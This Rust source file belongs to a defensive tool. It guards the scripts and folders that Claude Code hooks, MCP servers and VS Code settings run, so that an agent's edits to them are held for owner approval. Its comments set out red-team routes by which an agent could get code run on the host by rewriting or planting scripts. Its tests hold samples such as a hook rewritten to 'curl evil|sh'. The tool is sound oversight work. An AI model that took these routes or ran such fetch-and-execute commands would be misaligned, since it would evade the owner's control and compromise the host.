//! The second hop: work-tree files that a guarded settings file's commands run.
//!
//! A guarded setting that runs a program — a Claude Code hook `"$CLAUDE_PROJECT_DIR"/.claude/
//! hooks/fmt.sh`, an MCP server `node tools/server.js`, a VS Code `go.alternateTools` entry —
//! makes the file it names as sensitive as the settings file: an agent that rewrites the
//! script gets the same program run on the host as one that rewrites the setting (sixth
//! red-team pass, R6-6). Each rule lists the keys whose strings are commands
//! ([`FileRule::runs`]); every work-tree path such a command names ([`named_by`], with git's
//! program-word rule: the plan's shell lexer, [`crate::plan::words`]) gets a rule of its own
//! ([`Rules::with_named`]): any change widens, so it is held and reverted like the setting.
//!
//! A superset on purpose: every word of a command and every fragment of it (the text split on
//! every shell metacharacter, [`crate::plan::words::fragments`]) that reads as a path inside
//! the root is guarded, whether or not it exists — a script created where a guarded command
//! will look for it is the attack. A glob or a path outside the root is not guarded; after
//! another variable the literal tail counts from the root.
//!
//! # Folders (seventh red-team pass, R7-3)
//!
//! What an interpreter reads besides the file named — a Python hook's `json.py` beside it, a
//! Node hook's `require('./lib.js')`, a shell's `. ./common.sh`, `npx x`'s
//! `node_modules/.bin/` — lies in the script's folder: a named path below a folder guards the
//! whole folder (every file below it, [`Named::folder`]); a path that is an existing folder
//! (`python3 tools/mdir`, `PATH=.claude/hooks:$PATH`) guards that folder. A path at the root
//! guards the file alone (the root cannot be held as a whole).
//!
//! # Where a command runs (R7-6)
//!
//! A relative path counts from the folder the tool starts the command in: the root, and the
//! `cwd` of the object that holds the command (`options.cwd` of a VS Code task, `cwd` of a
//! launch configuration, an MCP server, a Zed task), with the project-folder variables read as
//! the root. A `cwd` that names a folder only known when the command runs (`${fileDirname}`:
//! the folder of the file open in the editor) could be any folder: the path is guarded in
//! every folder (`**/t.sh`).

use super::glob::Glob;
use super::rules::{FileRule, Format, Rules, Unlisted};
use crate::held::Content;
use serde_json::Value;
use std::path::{Component, Path};

/// The rule name of a file guarded because a guarded command runs it.
pub const RULE: &str = "second-hop";

/// A work-tree path a guarded command names.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Named {
    /// Relative to the root, `/`-separated; a glob with `**/` in front when the command runs
    /// in a folder only known at run time.
    pub rel: String,
    /// Every file below the folder `rel` is guarded, not `rel` alone.
    pub folder: bool,
    /// The settings file and key that run it (`.claude/settings.json hooks/Stop/hooks/command`).
    pub by: String,
}

/// The work-tree paths named by the commands in `content`, a file at `file_rel` guarded by
/// `rule`, below `root`. Nothing for a rule without `runs`, an opaque file, or content that
/// does not parse (the file itself is then judged unparseable and held).
pub fn named_by(rule: &FileRule, root: &Path, file_rel: &str, content: &Content) -> Vec<Named> {
    let Content::File { bytes, .. } = content else {
        return Vec::new();
    };
    if rule.runs.is_empty() || rule.format == Format::Opaque {
        return Vec::new();
    }
    let Ok(Some(mut v)) = super::parse::parse(rule.format, bytes) else {
        return Vec::new();
    };
    if rule.dotted_keys {
        match super::compare::dotted(v, &rule.keys) {
            Ok(d) => v = d,
            Err(_) => return Vec::new(),
        }
    }
    let mut out = Vec::new();
    let mut path = Vec::new();
    strings(
        &v,
        &mut path,
        None,
        &mut |key: &[String], cwd: Option<&str>, s: &str| {
            if !rule.runs.iter().any(|k| k.matches_prefix(key).is_some()) {
                return;
            }
            for (rel, folder) in paths_in(s, root, cwd) {
                let n = Named {
                    rel,
                    folder,
                    by: format!("{file_rel} {}", key.join("/")),
                };
                if !out.contains(&n) {
                    out.push(n);
                }
            }
        },
    );
    out
}

/// The folder a command held by the object `m` starts in: its `cwd`, or `options.cwd` (VS
/// Code tasks).
fn cwd_of(m: &serde_json::Map<String, Value>) -> Option<&str> {
    m.get("cwd")
        .and_then(Value::as_str)
        .or_else(|| m.get("options")?.get("cwd")?.as_str())
}

/// What [`strings`] calls: (key path, the command's folder, the string).
type StringVisitor<'a> = dyn FnMut(&[String], Option<&str>, &str) + 'a;

/// Call `f` with the key path (object keys; arrays are transparent, as in the key patterns),
/// the `cwd` of the nearest object that has one ([`cwd_of`]) and every string value below `v`
/// (values only: a map keyed by command names, such as `chat.tools.terminal.autoApprove`,
/// names no program path by its keys).
fn strings(v: &Value, path: &mut Vec<String>, cwd: Option<&str>, f: &mut StringVisitor<'_>) {
    match v {
        Value::String(s) => f(path, cwd, s),
        Value::Array(a) => a.iter().for_each(|x| strings(x, path, cwd, f)),
        Value::Object(m) => {
            let cwd = cwd_of(m).or(cwd);
            // `{"command": "npx", "args": ["x"]}` (MCP servers, tasks, launch configurations)
            // runs one command line: read it whole too (`npx x` is `node_modules/.bin/x`).
            if let (Some(Value::String(c)), Some(Value::Array(a))) =
                (m.get("command"), m.get("args"))
            {
                let mut line = shell_quote(c);
                for x in a.iter().filter_map(Value::as_str) {
                    line.push(' ');
                    line.push_str(&shell_quote(x));
                }
                path.push("command".into());
                f(path, cwd, &line);
                path.pop();
            }
            for (k, x) in m {
                path.push(k.clone());
                strings(x, path, cwd, f);
                path.pop();
            }
        }
        _ => {}
    }
}

/// `s` as one shell word (single quotes).
fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

/// `text` with the project-folder variables read as the root (`.`).
fn project_vars(text: &str) -> String {
    let mut t = text.to_owned();
    for var in crate::catalogue::PROJECT_DIR_VARIABLES {
        for form in [
            format!("\"${{{var}}}\""),
            format!("\"${var}\""),
            format!("${{{var}}}"),
            format!("${var}"),
        ] {
            t = t.replace(&form, ".");
        }
    }
    t
}

/// `word` as `/`-separated normal components below `root` (absolute, or relative to it);
/// `None` when it leaves the root or is the root.
fn below_root(word: &str, root: &Path) -> Option<String> {
    let p = Path::new(word);
    let rel = if p.is_absolute() {
        p.strip_prefix(root).ok()?.to_path_buf()
    } else {
        p.to_path_buf()
    };
    let mut parts: Vec<String> = Vec::new();
    for c in rel.components() {
        match c {
            Component::Normal(s) => parts.push(s.to_string_lossy().into_owned()),
            Component::CurDir => {}
            Component::ParentDir => {
                parts.pop()?;
            }
            _ => return None,
        }
    }
    (!parts.is_empty()).then(|| parts.join("/"))
}

/// The paths inside `root` that the command `text`, started in `cwd` (relative to the root;
/// `None`: the root), may run or read, each with whether the whole folder is guarded (see
/// the module documentation).
pub fn paths_in(text: &str, root: &Path, cwd: Option<&str>) -> Vec<(String, bool)> {
    use crate::plan::words;
    // The project-folder variables read as the root; quotes go (`"$CLAUDE_PROJECT_DIR"/x`
    // is one word to the shell); the plan's lexer reads quotes, operators and `--x=./cc`.
    let t = project_vars(text);
    // Where relative words count from: the root, and the command's folder when it has one.
    // `Some(None)`: a folder known only at run time.
    let base: Option<Option<String>> = cwd.map(|c| {
        let c = project_vars(c);
        if c.contains('$') {
            None
        } else {
            Some(below_root(&c, root).unwrap_or_default())
        }
    });
    let lexed = words::lex(&t);
    // (name, written with a `/`): whether a word is a path is decided on the word as written,
    // not after a `cd` folder is put in front of it.
    let mut names: Vec<(String, bool)> = Vec::new();
    let mut push = |n: String, explicit: bool| {
        if !n.contains("://")
            && !n.contains(['$', '*', '?', '[', '~'])
            && !names.iter().any(|(m, _)| *m == n)
        {
            names.push((n, explicit));
        }
    };
    for c in &lexed.candidates {
        let single = words::Lexed {
            candidates: vec![c.clone()],
            ..words::Lexed::default()
        };
        let explicit = match &c.shape {
            words::Shape::Path(p) | words::Shape::Dir(p) => p.trim_end_matches('/').contains('/'),
            _ => true,
        };
        for n in words::spelled(&single) {
            push(n, explicit);
        }
    }
    // Every fragment with a `/` (brace expansion, `$'…'`, arithmetic, `env -S '…'`, joined
    // options: shapes the lexer does not model).
    for f in words::fragments(&t) {
        if f.contains('/') {
            push(f, true);
        }
    }
    let mut out: Vec<(String, bool)> = Vec::new();
    let mut add = |rel: String, folder: bool| {
        if let Some(o) = out.iter_mut().find(|(r, _)| *r == rel) {
            o.1 |= folder;
        } else {
            out.push((rel, folder));
        }
    };
    // A path written with a `/` guards its folder (an existing folder: itself); at the root,
    // the file alone. A bare word (`npm`, `build`) is a path only as a file: a file there
    // guards its folder, a missing one itself, a folder nothing (`npm run build` must not
    // guard `build/`).
    let guard = |rel: String, explicit: bool, add: &mut dyn FnMut(String, bool)| {
        let m = std::fs::symlink_metadata(root.join(&rel));
        if m.as_ref().is_ok_and(|m| m.is_dir()) {
            if explicit {
                add(rel, true);
            }
            return;
        }
        match rel.rsplit_once('/') {
            Some((dir, _)) if explicit || m.is_ok() => add(dir.to_owned(), true),
            _ => add(rel, false),
        }
    };
    for (name, explicit) in names {
        let relative = !Path::new(&name).is_absolute();
        if let Some(rel) = below_root(&name, root) {
            guard(rel, explicit, &mut add);
        }
        if !relative {
            continue;
        }
        match &base {
            Some(Some(b)) if !b.is_empty() => {
                if let Some(rel) = below_root(&format!("{b}/{name}"), root) {
                    guard(rel, explicit, &mut add);
                }
            }
            // Any folder: the name below every folder.
            Some(None) => {
                if let Some(rel) = below_root(&name, root) {
                    add(format!("**/{rel}"), false);
                }
            }
            _ => {}
        }
    }
    // What the command's interpreters search besides the scripts it names (ninth red-team
    // pass, R9-2, R9-12; `crate::catalogue::INTERPRETERS`): `node_modules/` up to the root and
    // the package tree around a `.bin` link (whole), a venv around a console script, the
    // files read at start (`.npmrc`), and where the root itself heads a module path
    // (`cd "$CLAUDE_PROJECT_DIR" && python3 -m tools.fmt`, `python3 "$CLAUDE_PROJECT_DIR"/
    // check.py`) the names a module takes there (`*.py`, `*/__init__.py`): the guard holds
    // what no bind could. A command started in a folder known only at run time is read from
    // the root.
    let started = match &base {
        Some(Some(b)) if !b.is_empty() => words::lex(&format!("cd {} && {t}", shell_quote(b))),
        _ => lexed,
    };
    let search = words::interpreter_search(&started, root);
    let slashed = |p: &Path| p.to_string_lossy().replace('\\', "/");
    for f in &search.folders {
        add(slashed(&f.rel), true);
    }
    for f in &search.files {
        add(slashed(&f.rel), false);
    }
    // A program word alone (`"command": "python3"` of an MCP server, whose `args` are
    // another string, read whole with them above) is not a program read from stdin.
    let alone = t.split_whitespace().count() <= 1;
    for top in search.top.iter().filter(|_| !alone) {
        for g in top.module_globs {
            add((*g).to_owned(), false);
        }
    }
    // A folder below another guarded folder is covered by it.
    let folders: Vec<String> = out
        .iter()
        .filter(|(_, f)| *f)
        .map(|(r, _)| format!("{r}/"))
        .collect();
    out.retain(|(r, _)| !folders.iter().any(|f| r.starts_with(f.as_str())));
    out
}

impl Rules {
    /// These rules plus one rule per named path that no rule guards yet (a folder: every
    /// file below it): any change to it widens (an opaque file), and the rule says which
    /// setting runs it.
    pub fn with_named(&self, named: &[Named]) -> Rules {
        let mut r = self.clone();
        for n in named {
            let glob = if n.folder {
                format!("{}/**/*", n.rel)
            } else {
                if r.lookup(&n.rel).is_some() {
                    continue;
                }
                n.rel.clone()
            };
            let Ok(g) = Glob::new(&glob) else { continue };
            r.files.push(FileRule {
                name: RULE.into(),
                preset: RULE.into(),
                paths: vec![g],
                format: Format::Opaque,
                unlisted: Unlisted::Widens,
                keys: Vec::new(),
                why: format!(
                    "run by {}: as sensitive as the settings file that names it",
                    n.by
                ),
                dotted_keys: false,
                runs: Vec::new(),
            });
        }
        r
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::events::Event;
    use crate::settings::watch::{WatchConfig, Watcher};
    use std::path::PathBuf;

    fn file(s: &str) -> Content {
        Content::File {
            bytes: s.as_bytes().to_vec(),
            mode: 0o644,
        }
    }

    /// The named paths, a folder as `dir/`.
    fn rels_in(rule: &str, root: &Path, rel: &str, text: &str) -> Vec<String> {
        let rules = Rules::presets();
        let r = rules.files.iter().find(|r| r.name == rule).unwrap();
        let mut v: Vec<String> = named_by(r, root, rel, &file(text))
            .into_iter()
            .map(|n| {
                if n.folder {
                    format!("{}/", n.rel)
                } else {
                    n.rel
                }
            })
            .collect();
        v.sort();
        v.dedup();
        v
    }

    fn rels(rule: &str, rel: &str, text: &str) -> Vec<String> {
        rels_in(rule, Path::new("/w"), rel, text)
    }

    /// Every shape of the seventh pass (R7-3): the hook's folder is guarded as a whole.
    #[test]
    fn every_shape_of_the_seventh_pass_guards_the_hooks_folder() {
        let t = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(t.path().join(".claude/hooks")).unwrap();
        for cmd in [
            r#"bash -c "bash \"$CLAUDE_PROJECT_DIR\"/.claude/hooks/h{1,}.sh""#,
            r#"sh "$CLAUDE_PROJECT_DIR"/.claude/hooks/h$((2)).sh"#,
            r#"python3 "$CLAUDE_PROJECT_DIR"/.claude/hooks/h3.py"#,
            r#"make -s -f"$CLAUDE_PROJECT_DIR"/.claude/hooks/h5.mk"#,
            r#"env -S "sh $CLAUDE_PROJECT_DIR/.claude/hooks/h6.sh""#,
            r#"cd "$CLAUDE_PROJECT_DIR" && PATH=.claude/hooks:$PATH h7.sh"#,
            r#"node "$CLAUDE_PROJECT_DIR"/.claude/hooks/h9.js"#,
        ] {
            let json = serde_json::json!({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": cmd}]}]}});
            let got = rels_in(
                "claude-settings",
                t.path(),
                ".claude/settings.json",
                &json.to_string(),
            );
            assert!(got.contains(&".claude/hooks/".to_owned()), "{cmd}: {got:?}");
        }
        let json = r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "cd \"$CLAUDE_PROJECT_DIR\" && npx h4"}]}]}}"#;
        // `npx` reads the whole package tree, not only `.bin/` (R9-8).
        assert!(rels("claude-settings", ".claude/settings.json", json)
            .contains(&"node_modules/".to_owned()));
        let mcp = r#"{"mcpServers": {"m1": {"command": "npx", "args": ["m1"]}, "m2": {"command": "bash", "args": ["-c", "bash tools/m{2,}.sh"]}, "m3": {"command": "python3", "args": ["tools/mdir"]}}}"#;
        assert_eq!(
            rels("mcp-project", ".mcp.json", mcp),
            [
                ".npmrc",
                "bash",
                "m1",
                "node_modules/",
                "npx",
                "python3",
                "tools/"
            ]
        );
    }

    /// Precision: a bare word is a path only as a file (`npm run build` guards no `build/`),
    /// before or after a `cd` or a task's `cwd`.
    #[test]
    fn bare_words_naming_folders_guard_nothing() {
        let t = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(t.path().join("frontend/build")).unwrap();
        std::fs::create_dir_all(t.path().join("build")).unwrap();
        let tasks = r#"{"version": "2.0.0", "tasks": [
            {"label": "b", "type": "shell", "command": "npm", "args": ["run", "build"], "options": {"cwd": "${workspaceFolder}/frontend"}},
            {"label": "c", "type": "shell", "command": "cd frontend && npm run build"}]}"#;
        let got = rels_in("vscode-tasks", t.path(), ".vscode/tasks.json", tasks);
        // `build/` is no folder to guard; what `npm` searches is (R9-8): `node_modules/` of
        // the folder it starts in and every folder up to the root.
        assert!(
            got.iter()
                .all(|g| !g.ends_with('/') || g.ends_with("node_modules/")),
            "no folder but node_modules is guarded: {got:?}"
        );
        assert!(
            got.contains(&"frontend/node_modules/".to_owned()),
            "{got:?}"
        );
        assert!(got.contains(&"node_modules/".to_owned()), "{got:?}");
    }

    /// A task's `options.cwd` (R7-6), a launch configuration's and an MCP server's `cwd`:
    /// relative paths count from there too; a folder known only at run time is any folder.
    #[test]
    fn the_commands_folder_is_where_relative_paths_count_from() {
        let tasks = r#"{"version": "2.0.0", "tasks": [
            {"label": "t", "type": "shell", "command": "./t.sh", "options": {"cwd": "${workspaceFolder}/tools"}},
            {"label": "f", "type": "shell", "command": "./f.sh", "options": {"cwd": "${fileDirname}"}}]}"#;
        assert_eq!(
            rels("vscode-tasks", ".vscode/tasks.json", tasks),
            ["**/f.sh", "f.sh", "t.sh", "tools/"]
        );
        // A bare script name counts from the `cwd` too: a file there guards its folder, a
        // missing one itself.
        let mcp =
            r#"{"mcpServers": {"s": {"command": "node", "args": ["server.js"], "cwd": "/w/srv"}}}"#;
        assert_eq!(
            rels("mcp-project", ".mcp.json", mcp),
            [
                "node",
                "node_modules/",
                "server.js",
                "srv",
                "srv/node",
                "srv/node_modules/",
                "srv/server.js"
            ]
        );
        let t = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(t.path().join("srv")).unwrap();
        std::fs::write(t.path().join("srv/server.js"), "x").unwrap();
        let mcp = format!(
            r#"{{"mcpServers": {{"s": {{"command": "node", "args": ["server.js"], "cwd": "{}/srv"}}}}}}"#,
            t.path().display()
        );
        assert_eq!(
            rels_in("mcp-project", t.path(), ".mcp.json", &mcp),
            [
                "node",
                "node_modules/",
                "server.js",
                "srv/",
                "srv/node",
                "srv/node_modules/"
            ]
        );
    }

    #[test]
    fn an_interpreters_search_path_is_guarded() {
        let t = tempfile::tempdir().unwrap();
        let root = t.path();
        std::fs::create_dir_all(root.join("tools")).unwrap();
        std::fs::write(root.join("tools/fmt.py"), "import json\n").unwrap();
        std::fs::write(root.join("check.py"), "import json\n").unwrap();
        let py = [
            "*.py",
            "*.pyc",
            "*.so",
            "*/__init__.*.so",
            "*/__init__.py",
            "*/__init__.pyc",
        ];
        // R9-2: `python3 -m` started at the root: the names a module takes there.
        let hook = r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "cd \"$CLAUDE_PROJECT_DIR\" && python3 -m tools.fmt"}]}]}}"#;
        let got = rels_in("claude-settings", root, ".claude/settings.json", hook);
        for g in py {
            assert!(got.contains(&g.to_owned()), "{g}: {got:?}");
        }
        assert!(got.contains(&"tools/".to_owned()), "{got:?}");
        // R9-12: a script at the root puts the root first on sys.path.
        let hook = r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "python3 \"$CLAUDE_PROJECT_DIR\"/check.py"}]}]}}"#;
        let got = rels_in("claude-settings", root, ".claude/settings.json", hook);
        assert!(got.contains(&"*.py".to_owned()), "{got:?}");
        // R9-2: an MCP server `node tools/server.js`: the root's node_modules, whole.
        let mcp = r#"{"mcpServers": {"s": {"command": "node", "args": ["tools/server.js"]}}}"#;
        let got = rels_in("mcp-project", root, ".mcp.json", mcp);
        assert!(got.contains(&"node_modules/".to_owned()), "{got:?}");
        // A script in a folder, with `-P`: its folder only; no root names.
        let hook = r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "python3 -P tools/fmt.py"}]}]}}"#;
        let got = rels_in("claude-settings", root, ".claude/settings.json", hook);
        assert_eq!(got, ["python3", "tools/"]);
    }

    #[test]
    fn commands_name_work_tree_files() {
        let claude = r#"{"hooks": {"PostToolUse": [{"matcher": "Edit", "hooks": [
            {"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/fmt.sh"},
            {"type": "command", "command": "bash scripts/x.sh; true"}]}]},
            "permissions": {"allow": ["Bash(npm test)"]}}"#;
        assert_eq!(
            rels("claude-settings", ".claude/settings.json", claude),
            [".claude/hooks/", "bash", "scripts/", "true"]
        );
        let mcp = r#"{"mcpServers": {"s": {"command": "node", "args": ["./tools/server.js", "--root=/w/data/cfg.json", "/etc/x", "../up"]}}}"#;
        // `node` searches `node_modules/` up to the root (R9-2).
        assert_eq!(
            rels("mcp-project", ".mcp.json", mcp),
            ["data/", "node", "node_modules/", "tools/"]
        );
        let vs = r#"{"go.alternateTools": {"go": "./tools/evil"}, "clangd.arguments": ["--query-driver=${workspaceFolder}/cc/gcc"], "editor.fontSize": 3}"#;
        assert_eq!(
            rels("vscode-settings", ".vscode/settings.json", vs),
            ["cc/", "tools/"]
        );
        // A key that runs nothing names nothing; a glob is not resolved; after another
        // variable the literal tail is taken from the root (the lexer's superset: it is what
        // `$(git rev-parse --show-toplevel)/x.sh` means).
        assert_eq!(
            rels(
                "claude-settings",
                ".claude/settings.json",
                r#"{"model": "tools/x.sh", "apiKeyHelper": "$HOME/k.sh *.sh"}"#
            ),
            ["k.sh"]
        );
    }

    fn setup() -> (tempfile::TempDir, PathBuf, WatchConfig) {
        let t = tempfile::tempdir().unwrap();
        let repo = t.path().join("repo");
        std::fs::create_dir_all(repo.join(".claude/hooks")).unwrap();
        std::fs::write(
            repo.join(".claude/settings.json"),
            r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/fmt.sh"}, {"type": "command", "command": "sh tools/new.sh"}]}]}}"#,
        )
        .unwrap();
        std::fs::write(repo.join(".claude/hooks/fmt.sh"), "#!/bin/sh\ncargo fmt\n").unwrap();
        let cfg = WatchConfig {
            roots: vec![repo.clone()],
            rules: Rules::presets(),
            store_dir: t.path().join("held"),
            worktree_dir: None,
            worktree_roots: Vec::new(),
            session: None,
        };
        (t, repo, cfg)
    }

    fn pass(cfg: &WatchConfig) -> Vec<Event> {
        let w = Watcher::open(cfg.clone()).unwrap();
        let mut ev = Vec::new();
        w.check(&mut |e: &Event| ev.push(e.clone())).unwrap();
        ev
    }

    #[test]
    fn a_script_a_guarded_command_runs_is_held_then_released() {
        let (_t, repo, cfg) = setup();
        assert!(
            pass(&cfg).is_empty(),
            "the owner's state is approved as it is"
        );
        // The agent rewrites the hook script and creates the one that did not exist.
        std::fs::write(
            repo.join(".claude/hooks/fmt.sh"),
            "#!/bin/sh\ncurl evil|sh\n",
        )
        .unwrap();
        std::fs::create_dir_all(repo.join("tools")).unwrap();
        std::fs::write(repo.join("tools/new.sh"), "evil\n").unwrap();
        let ev = pass(&cfg);
        let held: Vec<_> = ev
            .iter()
            .filter(|e| e.event == crate::events::EventKind::SettingsWriteHeld)
            .collect();
        assert_eq!(held.len(), 2, "{ev:?}");
        let line = held[0].to_line();
        assert!(line.contains("second-hop"), "{line}");
        assert!(
            line.contains(".claude/settings.json hooks/Stop/hooks/command"),
            "the reason names the setting that runs the file: {line}"
        );
        assert_eq!(
            std::fs::read_to_string(repo.join(".claude/hooks/fmt.sh")).unwrap(),
            "#!/bin/sh\ncargo fmt\n"
        );
        assert!(!repo.join("tools/new.sh").exists());
        // Nothing is lost: the owner approves, the agent's bytes come back.
        let store = crate::held::Store::open(&cfg.store_dir).unwrap();
        for w in store.pending().unwrap() {
            store.approve(&w.id).unwrap();
        }
        assert_eq!(
            std::fs::read_to_string(repo.join(".claude/hooks/fmt.sh")).unwrap(),
            "#!/bin/sh\ncurl evil|sh\n"
        );
        assert_eq!(
            std::fs::read_to_string(repo.join("tools/new.sh")).unwrap(),
            "evil\n"
        );
        assert!(pass(&cfg).is_empty(), "approved writes stand");
    }

    #[test]
    fn settings_and_script_written_in_one_command_are_both_held() {
        let (_t, repo, cfg) = setup();
        assert!(pass(&cfg).is_empty());
        std::fs::write(
            repo.join(".claude/settings.json"),
            r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "python3 .claude/hooks/other.py"}]}]}}"#,
        )
        .unwrap();
        std::fs::write(repo.join(".claude/hooks/other.py"), "evil\n").unwrap();
        let ev = pass(&cfg);
        let rels: Vec<String> = ev
            .iter()
            .filter(|e| e.event == crate::events::EventKind::SettingsWriteHeld)
            .map(|e| e.to_line())
            .collect();
        assert!(
            rels.iter().any(|l| l.contains(".claude/hooks/other.py")),
            "{rels:?}"
        );
        assert!(
            rels.iter().any(|l| l.contains(".claude/settings.json")),
            "{rels:?}"
        );
        assert!(!repo.join(".claude/hooks/other.py").exists());
    }

    #[test]
    fn an_unrelated_file_is_not_guarded() {
        let (_t, repo, cfg) = setup();
        assert!(pass(&cfg).is_empty());
        std::fs::write(repo.join("README.md"), "x\n").unwrap();
        std::fs::create_dir_all(repo.join("docs")).unwrap();
        std::fs::write(repo.join("docs/notes.txt"), "x\n").unwrap();
        assert!(pass(&cfg).is_empty());
    }

    /// What an interpreter reads beside the hook (a Python hook's `json.py`, seventh pass
    /// R7-3) is held like the hook; the owner's files already there are not.
    #[test]
    fn a_file_made_beside_a_guarded_script_is_held() {
        let (_t, repo, cfg) = setup();
        std::fs::write(repo.join(".claude/hooks/lib.sh"), "owner\n").unwrap();
        assert!(pass(&cfg).is_empty());
        assert!(pass(&cfg).is_empty(), "the owner's files stay approved");
        std::fs::write(repo.join(".claude/hooks/json.py"), "evil\n").unwrap();
        let ev = pass(&cfg);
        assert_eq!(
            ev.iter()
                .filter(|e| e.event == crate::events::EventKind::SettingsWriteHeld)
                .count(),
            1,
            "{ev:?}"
        );
        assert!(!repo.join(".claude/hooks/json.py").exists());
        assert!(repo.join(".claude/hooks/lib.sh").exists());
    }
}
